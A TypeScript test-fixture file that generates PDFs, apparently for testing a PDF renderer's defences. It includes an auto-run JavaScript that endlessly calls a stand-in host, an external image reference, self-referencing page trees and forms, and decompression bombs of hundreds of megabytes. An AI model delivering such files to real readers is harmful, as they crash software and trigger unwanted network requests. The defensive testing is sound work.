import { deflateSync } from 'node:zlib';

/** A PDF of these objects, numbered from 1: the first is the catalogue, the second the page tree, the third the page. */
const pdf = (...objects: readonly (string | Buffer)[]) => pdfWith('', objects);

function pdfWith(trailer: string, objects: readonly (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  for (const [index, object] of objects.entries()) {
    offsets.push(Buffer.concat(parts).length);
    parts.push(Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n'));
  }
  const start = Buffer.concat(parts).length;
  const entries = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${entries}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>`;
  return Buffer.concat([...parts, Buffer.from(`${table}\nstartxref\n${start}\n%%EOF\n`)]);
}

function stream(content: Buffer, entries = ''): Buffer {
  const compressed = deflateSync(content);
  const head = `<< ${entries} /Filter /FlateDecode /Length ${compressed.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(head), compressed, Buffer.from('\nendstream')]);
}

const CATALOGUE = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (entries: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Contents 4 0 R ${entries} >>`;
const RED_SQUARE = stream(Buffer.from('1 0 0 rg 50 100 100 100 re f'));

/** A document that says what it is called: "Der Prozeß", in UTF-16. */
export const titled = pdfWith('/Info 5 0 R', [
  CATALOGUE,
  PAGES,
  page(''),
  RED_SQUARE,
  '<< /Title <FEFF004400650072002000500072006F007A006500DF> >>',
]);

/** A document that draws a red square, and does this beside it when it is opened. */
export const withAction = (action: string): Buffer =>
  pdf(`<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>`, PAGES, page(''), RED_SQUARE);

/** Runs a script, and asks the network for another, when a reader opens it. */
export const javascript = withAction(
  "<< /S /JavaScript /JS (while \\(true\\) { app.launchURL\\('http://192.0.2.1/'\\) }) >>",
);

/** Has its only image in a file on another server. */
export const externalReference = pdf(
  CATALOGUE,
  PAGES,
  page('/Resources << /XObject << /Image 5 0 R >> >>'),
  stream(Buffer.from('q 100 0 0 100 50 50 cm /Image Do Q')),
  '<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F << /FS /URL /F (http://192.0.2.1/image) >> /Length 0 >>\nstream\n\nendstream',
);

/** A page of 5 by 5 kilometres. */
export const hugeMediaBox = pdf(
  CATALOGUE,
  PAGES,
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400000 14400000] /Contents 4 0 R >>',
  RED_SQUARE,
);

/** A page tree that is its own child. */
export const pageTreeLoop = pdf(CATALOGUE, '<< /Type /Pages /Kids [2 0 R] /Count 1 >>');

/** A form that draws itself. */
export const formLoop = pdf(
  CATALOGUE,
  PAGES,
  page('/Resources << /XObject << /Form 5 0 R >> >>'),
  stream(Buffer.from('/Form Do')),
  stream(
    Buffer.from('/Form Do /Form Do'),
    '/Type /XObject /Subtype /Form /BBox [0 0 200 300] /Resources << /XObject << /Form 5 0 R >> >>',
  ),
);

/** 1.5 MB that say 25 million times to draw a curve. */
export const endlessDrawing = (): Buffer =>
  pdf(CATALOGUE, PAGES, page(''), stream(Buffer.alloc(600_000_000, '0 0 m 9 9 99 9 9 0 c S ')));

/** An image of 100 megapixels in 200 kB, behind a mask as large. */
export const hugeImage = (): Buffer => {
  const image = '/Type /XObject /Subtype /Image /Width 10000 /Height 10000 /BitsPerComponent 8';
  return pdf(
    CATALOGUE,
    PAGES,
    page('/Resources << /XObject << /Image 5 0 R >> >>'),
    stream(Buffer.from('q 200 0 0 300 0 0 cm /Image Do Q')),
    stream(Buffer.alloc(100_000_000), `${image} /ColorSpace /DeviceGray /SMask 6 0 R`),
    stream(Buffer.alloc(100_000_000, 0x80), `${image} /ColorSpace /DeviceGray`),
  );
};

/** One text operator with 150 million numbers, in 300 kB. */
export const endlessArray = (): Buffer =>
  pdf(CATALOGUE, PAGES, page(''), stream(Buffer.concat([Buffer.from('BT ['), Buffer.alloc(300_000_000, '0 ')])));
